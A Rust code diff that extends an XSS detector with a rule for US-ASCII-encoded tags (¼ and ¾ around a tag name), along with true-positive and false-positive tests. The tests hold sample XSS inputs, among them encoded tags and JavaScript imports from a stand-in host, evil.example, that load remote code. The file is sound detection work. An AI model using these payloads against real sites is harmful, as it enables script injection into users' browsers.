@@ -126,10 +126,15 @@ impl Xss {
         ];
         // A string-evaluating timer given code, and ES module imports: what a page's script
         // does, never what a URL, header, form or XML value holds; in a JSON text field they are
-        // a code sample.
+        // a code sample (and fractions there are recipes).
         let strict = [
             (r#"\b(?:settimeout|setinterval|setimmediate|execscript)\s*\(\s*(?:["'`]|[a-z_$][\w$.]*\s*(?:\(|,\s*\d))"#, High, 0.7, "script timer given code"),
             (r#"\bimport\s*(?:\{[^}]*\}|\*\s*as\s+[a-z_$][\w$]*)\s*from\s*["'`]|\bimport\s*\(\s*["'`]"#, High, 0.7, "JavaScript module import"),
+            // US-ASCII `<tag>` with the high bit set (`¼` `¾` are 0xBC 0xBE), which 7-bit
+            // decoders turn back into markup; prose has these fractions apart (`¼ cup`), not
+            // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
+            // Latin-1 letter, so only the characters themselves count.)
+            ("\u{bc}/?[a-z][a-z0-9]*[^\u{bc}\u{be}<>]{0,100}\u{be}", High, 0.75, "US-ASCII encoded tag"),
         ];
         Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
@@ -213,6 +218,7 @@ impl Check for Xss {
             lit("+[]"),
             lit("[]["),
             gated("import", import_clause),
+            lit("\u{bc}"),
         ];
         T
     }
@@ -240,6 +246,9 @@ mod tests {
             "import {readFile} from 'fs'",
             "import * as m from \"//evil.example/m.js\"",
             "import('//evil.example/x.js')",
+            "¼b¾bold¼/b¾",
+            "x%C2%BC/title%C2%BE",
+            "\\u00bcp class=x\\u00be",
         ] {
             assert!(flags("attack.xss", v), "{v}");
             assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
@@ -252,6 +261,8 @@ mod tests {
             "important {notes} from 'Bob'",
             "reimport {a} from 'b'",
             "import duties from 'France'",
+            "add ¼ cup flour and ¾ cup sugar",
+            "1¼ hours, ¾ done",
         ] {
             assert!(!flags("attack.xss", v), "{v}");
         }
